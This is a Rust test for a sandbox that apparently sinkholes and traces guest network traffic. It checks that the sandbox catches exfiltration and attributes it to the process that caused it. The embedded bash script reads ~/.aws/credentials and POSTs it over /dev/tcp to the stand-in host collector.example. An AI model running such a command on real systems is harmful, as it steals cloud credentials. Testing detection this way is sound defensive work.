//! The guest's network: everything ends in the sinkhole, and the process is known.

use model::{EventSource, TraceDeed};
use sandbox::{Budget, Guest, State};

use super::{launchers, step};

const SCRIPT: &str = r#"exec 3<>/dev/tcp/collector.example/8081
secret=$(</home/dev/.aws/credentials)
printf 'POST /in HTTP/1.1\r\nHost: collector.example:8081\r\nContent-Length: %d\r\n\r\n%s' ${#secret} "$secret" >&3
read -r -t 5 answer <&3
echo "$answer""#;

#[test]
fn a_request_to_any_name_and_port_is_answered_and_told_with_its_process_and_its_causes() {
    let tokens = sandbox::tokens::Tokens::new([5; 32]);
    let mut guest = Guest { tokens: Some([5; 32]), ..Guest::default() };
    guest.plant(&tokens.home(Guest::HOME));
    for launcher in launchers() {
        let ran = sandbox::run(&launcher, &guest, &[step(&["bash", "-c", SCRIPT])], &Budget::default())
            .unwrap_or_else(|error| panic!("{error}"));
        let wall = ran.layers.iter().find(|layer| layer.name == "network").expect("it is told");
        assert_eq!(wall.state, State::Standing);
        assert!(ran.trace.steps[0].output.starts_with("HTTP/1.1 200"), "{}", ran.trace.steps[0].output);
        let event = |fits: &dyn Fn(&TraceDeed) -> bool| {
            ran.trace.events.iter().find(|event| fits(&event.deed)).unwrap_or_else(|| panic!("{:#?}", ran.trace.events))
        };
        let to = |name: &Option<String>| name.as_deref() == Some("collector.example");
        let connect = event(&|deed| matches!(deed, TraceDeed::Connect { name, .. } if to(name)));
        let http = event(&|deed| matches!(deed, TraceDeed::Http { .. }));
        assert_eq!(http.source, EventSource::Sink);
        assert_eq!(http.process, connect.process);
        assert!(http.causes.contains(&connect.number));
        let TraceDeed::Http { method, url, .. } = &http.deed else { unreachable!("it was looked for") };
        assert_eq!((method.as_str(), url.as_str()), ("POST", "http://collector.example:8081/in"));
        assert!(http.tokens.iter().any(|token| token.starts_with("aws-secret")), "{:?}", http.tokens);
        // What was read before it was sent.
        let is_secret = |path: &str| path.ends_with(".aws/credentials");
        let read = event(&|deed| matches!(deed, TraceDeed::Open { path, write: false, .. } if is_secret(path)));
        assert!(http.causes.contains(&read.number), "{:?}", http.causes);
    }
}
